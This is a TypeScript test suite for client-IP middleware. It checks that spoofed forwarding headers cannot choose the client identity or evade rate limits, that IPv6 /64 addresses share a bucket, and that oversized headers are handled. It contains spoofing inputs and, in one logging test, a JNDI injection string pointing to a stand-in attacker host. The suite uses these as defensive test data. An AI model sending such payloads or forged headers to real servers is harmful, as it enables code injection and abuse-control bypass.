import { afterEach, describe, expect, test, vi } from 'vitest'
import type { HasClientIp } from '../../src/core/facts.ts'
import type { ClientIpOptions } from '../../src/request/client-ip.ts'
import { clientIp, fromPeers, UNIDENTIFIED } from '../../src/request/client-ip.ts'
import { rateLimit } from '../../src/traffic/rate-limit.ts'
import { byClientIp } from '../../src/traffic/keys.ts'
import { accessLog } from '../../src/logging/access-log.ts'
import type { Circumstances } from '../helpers.ts'
import { contextOf, requestTo, send } from '../helpers.ts'
import { leavesStreamsAlone, refusesToBeMade, spy } from './support.ts'

afterEach(() => void vi.restoreAllMocks())

interface Found extends HasClientIp {
  readonly events: readonly string[]
  readonly source: unknown
}

async function find(
  options: ClientIpOptions,
  headers: Record<string, string> | [string, string][],
  circumstances: Circumstances,
): Promise<Found> {
  const inner = spy<HasClientIp>()
  await send(clientIp(options)(inner.handler), requestTo('/', { headers }), contextOf(circumstances))
  const { clientIp: ip, clientNetwork, secure, events, attributes } = inner.calls[0]!.context
  return {
    clientIp: ip,
    clientNetwork,
    secure,
    events: events.map(({ code }) => code),
    source: attributes['client.address_source'],
  }
}

const ipOf = async (...args: Parameters<typeof find>): Promise<string> => (await find(...args)).clientIp
const networkOf = async (address: string, options: ClientIpOptions = {}): Promise<string> =>
  (await find(options, {}, { address })).clientNetwork

describe('lets the good through', () => {
  test('without options the client is the peer that the runtime attests', async () => {
    expect(await find({}, {}, { address: '192.0.2.1' })).toEqual({
      clientIp: '192.0.2.1',
      clientNetwork: '192.0.2.1',
      secure: false,
      events: [],
      source: undefined,
    })
    expect((await find({}, {}, { address: '192.0.2.1', connection: { encrypted: true } })).secure).toBe(true)
  })

  test.each<[string, ClientIpOptions, Record<string, string>, string]>([
    ['one hop', { hops: 1 }, { 'x-forwarded-for': '203.0.113.5' }, '203.0.113.5'],
    ['two hops', { hops: 2 }, { 'x-forwarded-for': '203.0.113.5, 10.0.0.2' }, '203.0.113.5'],
    ['trusted networks', { proxies: ['10.0.0.0/8'] }, { 'x-forwarded-for': '203.0.113.5, 10.0.0.2' }, '203.0.113.5'],
    [
      'all nodes trusted: the leftmost',
      { proxies: ['10.0.0.0/8'] },
      { 'x-forwarded-for': '10.0.0.3, 10.0.0.2' },
      '10.0.0.3',
    ],
    ['a port', { hops: 1 }, { 'x-forwarded-for': '203.0.113.5:51234' }, '203.0.113.5'],
    ['IPv6 with a port', { hops: 1 }, { 'x-forwarded-for': '[2001:DB8::0:5]:51234' }, '2001:db8::5'],
    ['mapped IPv4', { hops: 1 }, { 'x-forwarded-for': '::ffff:203.0.113.5' }, '203.0.113.5'],
    ['Forwarded', { hops: 1, header: 'forwarded' }, { forwarded: 'for="[2001:db8::5]:80";proto=https' }, '2001:db8::5'],
    ['X-Real-IP', { hops: 1, header: 'x-real-ip' }, { 'x-real-ip': '203.0.113.5' }, '203.0.113.5'],
    [
      'any case of header',
      { hops: 1, header: 'CF-Connecting-IP' },
      { 'cf-connecting-ip': '203.0.113.5' },
      '203.0.113.5',
    ],
    ['no header at all', { hops: 1 }, {}, '10.0.0.1'],
    ['spaces and tabs', { hops: 2 }, { 'x-forwarded-for': ' 203.0.113.5 \t,\t 10.0.0.2 ' }, '203.0.113.5'],
  ])('behind a proxy: %s', async (_what, options, headers, expected) => {
    expect(await ipOf(options, headers, { address: '10.0.0.1' })).toBe(expected)
  })

  test('two header lines are one list', async () => {
    const headers: [string, string][] = [['x-forwarded-for', '6.6.6.6'], ['x-forwarded-for', '203.0.113.5']]
    expect(await ipOf({ hops: 1 }, headers, { address: '10.0.0.1' })).toBe('203.0.113.5')
  })

  test("secure is the word of the proxy that counts, else the connection's own", async () => {
    const secure = async (
      options: ClientIpOptions,
      headers: Record<string, string>,
      encrypted = false,
    ): Promise<boolean> => (await find(options, headers, { address: '10.0.0.1', connection: { encrypted } })).secure
    const chain = { 'x-forwarded-for': '203.0.113.5' }
    expect(await secure({ hops: 1 }, { ...chain, 'x-forwarded-proto': 'https' })).toBe(true)
    expect(await secure({ hops: 1 }, { ...chain, 'x-forwarded-proto': 'HTTPS' })).toBe(true)
    expect(await secure({ hops: 1 }, { ...chain, 'x-forwarded-proto': 'http' }, true)).toBe(false)
    expect(await secure({ hops: 1 }, chain, true)).toBe(true)
    expect(await secure({ hops: 1, header: 'forwarded' }, { forwarded: 'for=203.0.113.5;proto=https' })).toBe(true)
  })

  test('undefined is the default for every option', async () => {
    const options = { hops: undefined, proxies: undefined, header: undefined, ipv6Prefix: undefined }
    expect(await find(options, { 'x-forwarded-for': '6.6.6.6' }, { address: '2001:db8::1' })).toMatchObject({
      clientIp: '2001:db8::1',
      clientNetwork: '2001:db8::/64',
    })
  })
})

describe('PITFALLS 1: who the client is cannot be chosen', () => {
  test('PITFALLS 1: 1,000 requests from one socket with random X-Forwarded-For make one client', async () => {
    const limited = clientIp()(rateLimit({ key: byClientIp, limit: 10, window: '1m' })(() => new Response('ok')))
    const networks = new Set<string>()
    let allowed = 0
    for (let i = 0; i < 1_000; i++) {
      const claimed = [...crypto.getRandomValues(new Uint8Array(4))].join('.')
      const headers = {
        'x-forwarded-for': claimed,
        'x-real-ip': claimed,
        'cf-connecting-ip': claimed,
        'true-client-ip': claimed,
        'x-client-ip': claimed,
        forwarded: `for=${claimed}`,
      }
      networks.add((await find({}, headers, { address: '192.0.2.1' })).clientNetwork)
      if ((await send(limited, requestTo('/', { headers }), contextOf({ address: '192.0.2.1' }))).status === 200) {
        allowed++
      }
    }
    expect([...networks]).toEqual(['192.0.2.1'])
    expect(allowed).toBe(10)
  })

  test('PITFALLS 1: with one hop, `evil, real` is `real`, and the claim is recorded', async () => {
    const found = await find({ hops: 1 }, { 'x-forwarded-for': '6.6.6.6, 203.0.113.5' }, { address: '10.0.0.1' })
    expect(found).toMatchObject({
      clientIp: '203.0.113.5',
      events: ['forwarded-address-claimed'],
      source: 'x-forwarded-for',
    })
  })

  test.each<[string, ClientIpOptions, Record<string, string>, string]>([
    ['a chain shorter than hops', { hops: 2 }, { 'x-forwarded-for': '6.6.6.6' }, '10.0.0.1'],
    ['an empty header', { hops: 1 }, { 'x-forwarded-for': '' }, '10.0.0.1'],
    ['only commas', { hops: 1 }, { 'x-forwarded-for': ',,,' }, '10.0.0.1'],
    ['garbage where the client should be', { hops: 1 }, { 'x-forwarded-for': '6.6.6.6, unknown' }, '10.0.0.1'],
    ['an obfuscated node', { hops: 1, header: 'forwarded' }, { forwarded: 'for=6.6.6.6, for=_hidden' }, '10.0.0.1'],
    ['octal spelling', { hops: 1 }, { 'x-forwarded-for': '010.1.1.1' }, '10.0.0.1'],
    ['hex spelling', { hops: 1 }, { 'x-forwarded-for': '0x7f.0.0.1' }, '10.0.0.1'],
    ['a decimal word', { hops: 1 }, { 'x-forwarded-for': '2130706433' }, '10.0.0.1'],
    ['three octets', { hops: 1 }, { 'x-forwarded-for': '127.0.1' }, '10.0.0.1'],
    ['a superscript digit', { hops: 1 }, { 'x-forwarded-for': '6.6.6.\xb9' }, '10.0.0.1'],
    ['a name of Object.prototype', { hops: 1 }, { 'x-forwarded-for': '__proto__' }, '10.0.0.1'],
    ['the name of the partition without address', { hops: 1 }, { 'x-forwarded-for': UNIDENTIFIED }, '10.0.0.1'],
    ['a CIDR', { hops: 1 }, { 'x-forwarded-for': '6.6.6.0/24' }, '10.0.0.1'],
    ['a quoted address', { hops: 1 }, { 'x-forwarded-for': '"6.6.6.6"' }, '10.0.0.1'],
    [
      'an unclosed quote',
      { hops: 1, header: 'forwarded' },
      { forwarded: 'for=6.6.6.6;x=", for=203.0.113.5' },
      '10.0.0.1',
    ],
    [
      'an unclosed quote before trusted networks',
      { proxies: ['10.0.0.0/8'], header: 'forwarded' },
      { forwarded: 'for=6.6.6.6;x=", for=203.0.113.5, for=10.0.0.2' },
      '10.0.0.1',
    ],
    [
      'another header than the one configured',
      { hops: 1 },
      { 'cf-connecting-ip': '6.6.6.6', forwarded: 'for=6.6.6.6' },
      '10.0.0.1',
    ],
    [
      'a claim left of garbage',
      { proxies: ['10.0.0.0/8'] },
      { 'x-forwarded-for': '6.6.6.6, junk, 10.0.0.2' },
      '10.0.0.1',
    ],
    [
      'a trusted-looking claim',
      { proxies: ['10.0.0.0/8'] },
      { 'x-forwarded-for': '10.9.9.9, 203.0.113.5' },
      '203.0.113.5',
    ],
    [
      'a trusted-looking claim left of the client',
      { proxies: ['10.0.0.0/8'] },
      { 'x-forwarded-for': '6.6.6.6, 10.9.9.9, 203.0.113.5, 10.0.0.2' },
      '203.0.113.5',
    ],
  ])('PITFALLS 1, fault 32: %s', async (_what, options, headers, expected) => {
    expect(await ipOf(options, headers, { address: '10.0.0.1' })).toBe(expected)
  })

  test('PITFALLS 1, fault 32: with proxies listed, the header of a peer outside them never counts, and says so', async () => {
    vi.spyOn(console, 'warn').mockImplementation(() => {})
    for (const address of ['192.0.2.1', undefined, '11.0.0.1', '::ffff:11.0.0.1', 'fe80::1%eth0']) {
      const found = await find({ proxies: ['10.0.0.0/8'] }, { 'x-forwarded-for': '6.6.6.6' }, { address })
      expect(found.clientIp).not.toBe('6.6.6.6')
      expect(found.events).toEqual(['forwarded-chain-unusable'])
    }
    expect(
      await ipOf({ proxies: ['10.0.0.0/8'] }, { 'x-forwarded-for': '203.0.113.5' }, { address: '::ffff:10.0.0.1' }),
    )
      .toBe('203.0.113.5')
  })

  test('fault 32: the scheme is the trusted proxy’s word, not the client’s', async () => {
    const of = (headers: Record<string, string>, options: ClientIpOptions): Promise<Found> =>
      find(options, headers, { address: '10.0.0.1' })
    expect((await of({ 'x-forwarded-proto': 'https' }, {})).secure).toBe(false)
    const appended = { 'x-forwarded-for': '6.6.6.6, 203.0.113.5', 'x-forwarded-proto': 'https, http' }
    expect((await of(appended, { hops: 1 })).secure).toBe(false)
    expect(
      (await of({ forwarded: 'for=6.6.6.6;proto=https, for=203.0.113.5;proto=http' }, { hops: 1, header: 'forwarded' }))
        .secure,
    )
      .toBe(false)
    const short = { 'x-forwarded-for': '6.6.6.6, 203.0.113.5, 10.0.0.2, 10.0.0.3', 'x-forwarded-proto': 'https, http' }
    expect((await of(short, { hops: 3 })).secure).toBe(false)
    expect((await of({ 'x-forwarded-for': '203.0.113.5', 'x-forwarded-proto': 'httpsx' }, { hops: 1 })).secure).toBe(
      false,
    )
  })

  test('PITFALLS 1: no address is a partition of its own, with one warning per server', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {})
    const inner = spy<HasClientIp>()
    const wrapped = clientIp()(inner.handler)
    const { platform } = contextOf()
    for (const address of [undefined, '', 'unix:', '010.1.1.1', '1.2.3.4.5', '::1::2']) {
      await send(wrapped, requestTo(), { ...contextOf({ address }), platform })
    }
    for (const { context } of inner.calls) {
      expect(context.clientIp).toBe('unidentified')
      expect(context.clientNetwork).toBe('unidentified')
    }
    expect(warn).toHaveBeenCalledTimes(1)
    expect(warn.mock.calls[0]![0]).toContain('client-unidentified')
  })

  test('the reverse mistake: behind a proxy two clients are two', async () => {
    const one = await networkOf('10.0.0.1')
    const at = (ip: string): Promise<Found> => find({ hops: 1 }, { 'x-forwarded-for': ip }, { address: '10.0.0.1' })
    expect((await at('203.0.113.5')).clientNetwork).not.toBe((await at('203.0.113.6')).clientNetwork)
    expect((await at('203.0.113.5')).clientNetwork).not.toBe(one)
  })
})

describe('PITFALLS 2: one client, one key', () => {
  test('PITFALLS 2: ::ffff:1.2.3.4, ::ffff:102:304 and 1.2.3.4 share a key; an embedded IPv4 address elsewhere does not', async () => {
    const same = [
      '1.2.3.4',
      '::ffff:1.2.3.4',
      '::FFFF:102:304',
      '0:0:0:0:0:ffff:1.2.3.4',
      '[::ffff:1.2.3.4]',
      '::ffff:1.2.3.4%eth0',
    ]
    for (const address of same) expect(await networkOf(address)).toBe('1.2.3.4')
    expect(await networkOf('2001:db8::1.2.3.4')).toBe('2001:db8::/64')
    expect(await networkOf('::1.2.3.4')).not.toBe('1.2.3.4')
    expect(await networkOf('64:ff9b::1.2.3.4')).not.toBe('1.2.3.4')
  })

  test('PITFALLS 2: addresses of one /64 share a key, those of the next do not', async () => {
    const same = [
      '2001:db8:1:2::1',
      '2001:db8:1:2:ffff:ffff:ffff:ffff',
      '2001:0DB8:0001:0002:0:0:0:0',
      '2001:db8:1:2::9%en0',
    ]
    for (const address of same) expect(await networkOf(address)).toBe('2001:db8:1:2::/64')
    expect(await networkOf('2001:db8:1:3::1')).toBe('2001:db8:1:3::/64')
  })

  test('PITFALLS 2: the prefix can be set from 48 to 128', async () => {
    expect(await networkOf('2001:db8:1:2::1', { ipv6Prefix: 48 })).toBe('2001:db8:1::/48')
    expect(await networkOf('2001:db8:1:2ff::1', { ipv6Prefix: 56 })).toBe('2001:db8:1:200::/56')
    expect(await networkOf('2001:db8:1:2::1', { ipv6Prefix: 128 })).toBe('2001:db8:1:2::1/128')
    expect(await networkOf('192.0.2.1', { ipv6Prefix: 48 })).toBe('192.0.2.1')
  })

  test('PITFALLS 2: 2^64 addresses of one customer are one bucket', async () => {
    const limited = clientIp()(rateLimit({ key: byClientIp, limit: 5, window: '1m' })(() => new Response('ok')))
    let allowed = 0
    for (let i = 0; i < 200; i++) {
      const address = `2001:db8:1:2:${i.toString(16)}::${(i * 7).toString(16)}`
      if ((await send(limited, requestTo(), contextOf({ address }))).status === 200) allowed++
    }
    expect(allowed).toBe(5)
  })
})

describe('survives the broken', () => {
  test.each<[string, string]>([
    ['very many hops', `${'6.6.6.6, '.repeat(50_000)}203.0.113.5`],
    ['a megabyte without a comma, then the proxy', `${'x'.repeat(1_000_000)}, 203.0.113.5`],
    ['very many commas', `${','.repeat(500_000)}203.0.113.5`],
    ['very many colons', `${':'.repeat(500_000)},203.0.113.5`],
    ['very many brackets', `${'['.repeat(500_000)},203.0.113.5`],
  ])('%s: bounded, and the proxy’s entry counts', async (_what, value) => {
    const started = performance.now()
    expect(await ipOf({ hops: 1 }, { 'x-forwarded-for': value }, { address: '10.0.0.1' })).toBe('203.0.113.5')
    expect(await ipOf({ proxies: ['10.0.0.0/8'] }, { 'x-forwarded-for': value }, { address: '10.0.0.1' })).toBe(
      '203.0.113.5',
    )
    expect(performance.now() - started).toBeLessThan(500)
  })

  test('a claim does not reach the log', async () => {
    const lines: string[] = []
    const logged = clientIp({ hops: 1 })(accessLog({ write: (line) => lines.push(line) })(() => new Response('ok')))
    const headers = { 'x-forwarded-for': '${jndi:ldap://evil.test}, 203.0.113.5' }
    await (await send(logged, requestTo('/', { headers }), contextOf({ address: '10.0.0.1' }))).text()
    expect(lines[0]).toContain('"client":"203.0.113.5"')
    expect(lines[0]).not.toContain('evil.test')
  })

  test.each<[ClientIpOptions, ...string[]]>([
    [{ hops: 1, proxies: ['10.0.0.0/8'] }, 'clientIp', 'hops', 'proxies'],
    [{ header: 'x-real-ip' }, 'clientIp: header'],
    [{ hops: 0 }, 'clientIp: hops', '0'],
    [{ hops: -1 }, 'clientIp: hops'],
    [{ hops: 1.5 }, 'clientIp: hops'],
    [{ hops: Number.NaN }, 'clientIp: hops'],
    [{ hops: Infinity }, 'clientIp: hops'],
    [{ hops: '1' as never }, 'clientIp: hops'],
    [{ hops: true as never }, 'clientIp: hops'],
    [{ hops: 1, header: 'x forwarded for' }, 'header'],
    [{ proxies: ['10.0.0.1/8'] }, 'clientIp: proxies', '10.0.0.1/8'],
    [{ proxies: ['10.0.0.0/33'] }, 'clientIp: proxies'],
    [{ proxies: ['::ffff:10.0.0.0/104'] }, 'clientIp: proxies'],
    [{ proxies: ['010.0.0.0/8'] }, 'clientIp: proxies'],
    [{ proxies: ['*'] }, 'clientIp: proxies'],
    [{ proxies: ['loopback'] }, 'clientIp: proxies'],
    [{ proxies: ['10.0.0.0/8/8'] }, 'clientIp: proxies'],
    [{ proxies: [''] }, 'clientIp: proxies'],
    [{ proxies: '10.0.0.0/8' as never }, 'clientIp: proxies'],
    [{ ipv6Prefix: 47 }, 'clientIp: ipv6Prefix'],
    [{ ipv6Prefix: 129 }, 'clientIp: ipv6Prefix'],
    [{ ipv6Prefix: 0 }, 'clientIp: ipv6Prefix'],
    [{ ipv6Prefix: '64' as never }, 'clientIp: ipv6Prefix'],
  ])('throws when made with %o', (options, ...words) => {
    refusesToBeMade(() => clientIp(options), ...words)
  })

  test('fromPeers throws when made with what is no network, and trusts nobody when empty', () => {
    refusesToBeMade(() => fromPeers('10.0.0.0/8', 'nonsense'), 'fromPeers', 'nonsense')
    expect(fromPeers()(requestTo(), contextOf({ address: '127.0.0.1' }))).toBe(false)
  })
})

test('leaves streams alone', () => leavesStreamsAlone(clientIp({ hops: 1 }), { 'x-forwarded-for': '203.0.113.5' }))
